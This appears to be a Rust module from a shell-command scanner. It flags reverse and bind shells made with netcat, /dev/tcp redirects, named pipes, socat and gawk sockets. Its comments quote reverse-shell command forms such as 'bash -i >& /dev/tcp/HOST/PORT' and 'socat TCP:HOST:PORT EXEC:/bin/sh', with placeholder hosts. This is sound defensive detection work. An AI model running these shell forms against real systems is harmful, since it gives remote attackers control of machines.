//! Shells that are connected to the network.

use super::{code, inputs};
use crate::detect::facts::{Run, is_shell};
use crate::normalize::{Invocation, RedirectOp};

/// Whether an invocation gives a remote host a shell.
pub(super) fn is_reverse_shell(run: &Run<'_>, invocation: &Invocation) -> bool {
    netcat_exec(invocation)
        || shell_on_socket(run, invocation)
        || shell_between_nets(run, invocation)
        || socat_exec(invocation)
        || code::inline(invocation).is_some_and(code::is_reverse_shell)
        || awk_on_socket(invocation)
}

/// `nc -e PROGRAM`, `ncat --sh-exec COMMAND`. Listening ones are bind shells: as bad, and reported here too.
fn netcat_exec(invocation: &Invocation) -> bool {
    is_netcat(&invocation.program)
        && invocation.args.iter().any(|word| {
            let text = word.text.as_str();
            let is_long =
                text.starts_with("--exec") || text.starts_with("--sh-exec") || text.starts_with("--lua-exec");
            // -c is --sh-exec of ncat and of the traditional nc; -C and -z are not it.
            is_long || short_cluster(text).is_some_and(|flags| flags.contains('e') || flags.contains('c'))
        })
}

/// The letters of `-abc`, if it is such a word.
fn short_cluster(text: &str) -> Option<&str> {
    text.strip_prefix('-')
        .filter(|flags| !flags.is_empty() && flags.chars().all(|flag| flag.is_ascii_alphabetic()))
}

fn is_netcat(program: &str) -> bool {
    matches!(program, "nc" | "ncat" | "netcat" | "nc.traditional" | "nc.openbsd")
}

/// Tools that connect their standard streams to a remote host.
fn is_net_pipe(invocation: &Invocation) -> bool {
    match invocation.program.as_str() {
        "telnet" | "socat" => true,
        "openssl" => invocation.args.first().is_some_and(|word| word.text == "s_client"),
        program => is_netcat(program) && !invocation.args.iter().any(|word| word.text == "-z"),
    }
}

/// `bash -i >& /dev/tcp/HOST/PORT`, and the two-step form over a descriptor that `exec` opened.
///
/// Waiting for a port, `(echo > /dev/tcp/db/5432)`, has no shell on the socket; `exec 3<>/dev/tcp/db/5432`
/// alone has none either.
fn shell_on_socket(run: &Run<'_>, invocation: &Invocation) -> bool {
    let is_socket = |text: &str| text.starts_with("/dev/tcp/") || text.starts_with("/dev/udp/");
    let runs_text =
        is_shell(&invocation.program) || invocation.program == "eval" || invocation.program == "source";
    let dynamic_program = invocation.program.starts_with('$');
    if !(runs_text || dynamic_program) {
        return false;
    }
    if invocation.redirects.iter().any(|redirect| is_socket(&redirect.target.text)) {
        return true;
    }
    let opened =
        run.execution.commands.iter().filter(|other| other.program == "exec" || other.program.is_empty());
    let descriptors: Vec<String> = opened
        .flat_map(|other| &other.redirects)
        .filter(|redirect| is_socket(&redirect.target.text))
        .map(|redirect| redirect.fd.unwrap_or(0).to_string())
        .collect();
    let uses = |redirects: &[crate::normalize::Redirect]| {
        redirects.iter().any(|redirect| {
            matches!(redirect.op, RedirectOp::DupIn | RedirectOp::DupOut)
                && descriptors
                    .iter()
                    .any(|descriptor| *descriptor == redirect.target.text.trim_end_matches('-'))
        })
    };
    uses(&invocation.redirects) || inputs(&run.execution, invocation).any(|other| uses(&other.redirects))
}

/// A shell that is fed by a network tool, or feeds one and reads what comes back through a named pipe.
fn shell_between_nets(run: &Run<'_>, invocation: &Invocation) -> bool {
    let execution = &run.execution;
    let makes_fifo = || {
        execution.commands.iter().any(|other| {
            other.program == "mkfifo"
                || other.program == "mknod" && other.args.iter().any(|word| word.text == "p")
                || other.program == "coproc"
        })
    };
    let reads_script =
        is_shell(&invocation.program) && !invocation.args.iter().any(|word| !word.text.starts_with('-'));
    if reads_script && inputs(execution, invocation).any(is_net_pipe) {
        return true;
    }
    is_net_pipe(invocation)
        && makes_fifo()
        && inputs(execution, invocation).any(|other| is_shell(&other.program))
}

/// `socat TCP:HOST:PORT EXEC:/bin/sh`.
fn socat_exec(invocation: &Invocation) -> bool {
    let has = |prefixes: &[&str]| {
        invocation.args.iter().any(|word| {
            let upper = word.text.get(..12.min(word.text.len())).unwrap_or(&word.text).to_ascii_uppercase();
            prefixes.iter().any(|prefix| upper.starts_with(prefix))
        })
    };
    invocation.program == "socat"
        && has(&["EXEC:", "SYSTEM:", "SHELL:"])
        && has(&["TCP", "UDP", "OPENSSL", "SSL", "SOCKS", "PROXY", "SCTP"])
}

/// gawk speaks TCP by itself.
fn awk_on_socket(invocation: &Invocation) -> bool {
    matches!(invocation.program.as_str(), "awk" | "gawk")
        && invocation.args.iter().any(|word| {
            word.text.contains("/inet/tcp/")
                && (word.text.contains("getline") || word.text.contains("system("))
        })
}
